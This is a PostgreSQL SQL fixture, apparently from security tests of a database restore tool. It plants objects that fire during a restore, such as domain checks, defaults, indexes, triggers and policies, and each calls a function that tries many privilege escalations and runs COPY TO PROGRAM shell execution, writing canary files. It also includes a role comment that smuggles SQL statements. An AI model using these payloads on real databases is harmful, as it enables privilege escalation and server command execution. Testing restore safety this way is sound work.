-- What an ordinary role can put into its database so that a restore runs it. {canary} is a folder in which
-- every program that runs leaves a file by the name of its way in; {polite} says whether the session's role is
-- put back afterwards. Runs as superuser.

CREATE ROLE proof_hostile LOGIN CREATEROLE;
-- Roles that could be used as a way out by code that is a member of them.
CREATE ROLE proof_etl NOLOGIN;
GRANT pg_execute_server_program, pg_write_server_files TO proof_etl;
CREATE ROLE proof_creator NOLOGIN CREATEROLE;
CREATE ROLE proof_root NOLOGIN SUPERUSER;
COMMENT ON ROLE proof_etl IS 'A line that only looks like a statement:
ALTER ROLE proof_hostile WITH SUPERUSER;
GRANT proof_root TO proof_hostile;';
DO $database$
BEGIN
    EXECUTE format('ALTER DATABASE %I OWNER TO proof_hostile', current_database());
END
$database$;
SET ROLE proof_hostile;
CREATE SCHEMA h;

-- Tries everything, and never fails, so that the restore goes on.
CREATE FUNCTION h.run(way text) RETURNS boolean LANGUAGE plpgsql AS $body$
DECLARE
    attempt text;
    program text := format('COPY (SELECT current_user) TO PROGRAM %L', 'cat > {canary}/' || way);
BEGIN
    -- On the source this is only made, not tried: 15 lets a role with CREATEROLE do nearly everything.
    IF NOT EXISTS (SELECT FROM pg_catalog.pg_roles WHERE rolname = 'pulse_scratch_admin') THEN
        RETURN true;
    END IF;
    RAISE LOG 'tried: %', way;
    FOREACH attempt IN ARRAY ARRAY[
        'SELECT',
        'RESET ROLE', 'SET SESSION AUTHORIZATION DEFAULT', 'RESET SESSION AUTHORIZATION',
        'SET SESSION AUTHORIZATION pulse_scratch_admin', 'SET ROLE pulse_scratch_admin',
        'SET ROLE proof_root', 'SET SESSION AUTHORIZATION proof_root', 'SET ROLE proof_etl',
        'SET ROLE proof_creator; GRANT pg_execute_server_program TO proof_creator',
        'SET ROLE proof_creator; CREATE ROLE proof_made SUPERUSER',
        'SET ROLE proof_hostile; GRANT pg_execute_server_program TO proof_hostile',
        'GRANT pg_execute_server_program TO CURRENT_USER', 'ALTER ROLE CURRENT_USER SUPERUSER',
        'ALTER SYSTEM SET archive_command = ''true''', 'SET session_replication_role = replica',
        'COPY (SELECT 1) TO ''{canary}/file'''
    ] LOOP
        BEGIN
            EXECUTE attempt;
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
        BEGIN
            EXECUTE program;
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END LOOP;
    IF {polite} THEN
        BEGIN
            RESET ROLE;
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END IF;
    RETURN true;
END $body$;
-- A volatile function inside one that says it is immutable: PostgreSQL computes it while it makes the object.
CREATE FUNCTION h.pure(way text) RETURNS boolean IMMUTABLE LANGUAGE plpgsql AS $$ BEGIN RETURN h.run(way); END $$;
CREATE FUNCTION h.definer(way text) RETURNS boolean SECURITY DEFINER LANGUAGE plpgsql
    AS $$ BEGIN RETURN h.run(way); END $$;

-- Before any row is there.
CREATE DOMAIN h.evil AS text CHECK (h.run('literal-' || VALUE));
CREATE TABLE h.default_literal (a h.evil[] DEFAULT '{default}');
CREATE VIEW h.view_literal AS SELECT '{view}'::h.evil[] AS x;
CREATE FUNCTION h.argument(a h.evil[] DEFAULT '{argument}') RETURNS integer LANGUAGE sql AS 'SELECT 1';
CREATE FUNCTION h.atomic() RETURNS h.evil[] LANGUAGE sql BEGIN ATOMIC SELECT '{atomic}'::h.evil[]; END;
CREATE FUNCTION h."LANGUAGE c"(a h.evil[] DEFAULT '{quoted-LANGUAGE c SUPPORT}') RETURNS integer LANGUAGE sql AS 'SELECT 1';
CREATE FUNCTION h.step(h.evil, integer) RETURNS h.evil LANGUAGE sql AS 'SELECT $1';
CREATE AGGREGATE h.initial(integer) (SFUNC = h.step, STYPE = h.evil, INITCOND = 'initcond');
CREATE AGGREGATE h."STYPE = internal"(integer) (SFUNC = h.step, STYPE = h.evil, INITCOND = 'quoted-initcond');
CREATE TABLE h.bounds (k h.evil) PARTITION BY LIST (k);
CREATE TABLE h.bound PARTITION OF h.bounds FOR VALUES IN ('bound');
CREATE TABLE h.attached_to (k integer) PARTITION BY LIST (k);
CREATE TABLE h.attached (k integer CHECK (h.pure('attach')));
ALTER TABLE h.attached_to ATTACH PARTITION h.attached FOR VALUES IN (1);
CREATE TABLE h.generated (a integer, b boolean GENERATED ALWAYS AS (h.pure('generated') AND a > 0) STORED);

-- With the rows.
CREATE TABLE h.checked (a integer CHECK (h.run('check')));
INSERT INTO h.checked VALUES (1);
CREATE TABLE h.defined (a integer CHECK (h.definer('security-definer')));
INSERT INTO h.defined VALUES (1);
CREATE TABLE h.later (a integer, b h.evil);
INSERT INTO h.later VALUES (1, 'row');

-- After the rows.
ALTER TABLE h.later ADD CONSTRAINT validated CHECK (h.run('deferred-validation')) NOT VALID;
ALTER DOMAIN h.evil ADD CONSTRAINT late CHECK (h.run('domain-not-valid')) NOT VALID;
CREATE INDEX on_expression ON h.checked ((h.pure('index') AND a > 0));
CREATE INDEX on_condition ON h.checked (a) WHERE h.pure('index-condition');
-- Filled last of all, so that the domain's late check is there.
CREATE MATERIALIZED VIEW h.filled AS SELECT h.run('materialized-view'), lower('FILLED')::h.evil;
CREATE FUNCTION h.fired() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM h.run('trigger'); RETURN NEW; END $$;
CREATE TRIGGER fired BEFORE INSERT ON h.checked FOR EACH ROW WHEN ('{when}'::h.evil[] IS NOT NULL) EXECUTE FUNCTION h.fired();
ALTER TABLE h.checked ENABLE ALWAYS TRIGGER fired;
CREATE POLICY hidden ON h.checked USING ('{policy}'::h.evil[] IS NOT NULL);
CREATE RULE rewritten AS ON UPDATE TO h.checked WHERE '{rule}'::h.evil[] IS NOT NULL DO ALSO NOTHING;
CREATE STATISTICS h.computed ON (h.pure('statistics') AND a > 0), a FROM h.checked;
CREATE PUBLICATION leaked FOR TABLE h.checked WHERE (a > 0);
CREATE FUNCTION h.on_event() RETURNS event_trigger LANGUAGE plpgsql AS $$
BEGIN
    PERFORM h.run('event-' || tg_event);
END $$;
RESET ROLE;
